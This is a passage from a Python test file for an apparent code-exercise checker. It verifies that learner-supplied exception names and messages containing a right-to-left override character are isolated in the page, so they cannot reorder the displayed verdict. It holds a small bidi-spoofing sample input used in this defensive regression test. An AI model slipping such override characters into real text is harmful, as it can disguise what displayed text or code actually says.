        messageIsolated: [...box.querySelectorAll('.python-error-message bdi')].length,
    };
}"""


def test_direction_controls_in_learner_text_cannot_reorder_the_verdict(pages):
    """Issue 34, finding 7 as a class: an exception name and message holding U+202E (RIGHT-TO-LEFT OVERRIDE) are
    each in an element of their own that isolates them: the verdict's own words after the name are laid out after it,
    left to right, as if the name were plain. Engine sentences that name learner text isolate it the same way."""
    page = pages("isolated_server")
    state, text, _, _ = check(page, BIDI)
    assert state == "fail", text
    layout = page.evaluate(LAYOUT, '[data-checkpoint="1"] [data-verdict]')
    assert layout["isolation"] == "isolate", layout
    assert layout["afterText"] and "line" in layout["afterText"], layout
    assert layout["afterLeft"] >= layout["nameRight"] - 1, layout  # not pulled in front of the name
    assert layout["messageIsolated"] == 2, layout
    # an engine sentence (an exit code) names learner text: isolated there too
    state, text, _, _ = check(page, "import sys\nsys.exit('\\u202eedoc')" + CLEAN_TAIL)
    assert state == "error", text
    isolated = page.evaluate("""() => [...document.querySelectorAll(
        '[data-checkpoint="1"] .verdict-message bdi')].map((b) => b.textContent)""")
    assert isolated == [RLO + "edoc"], isolated
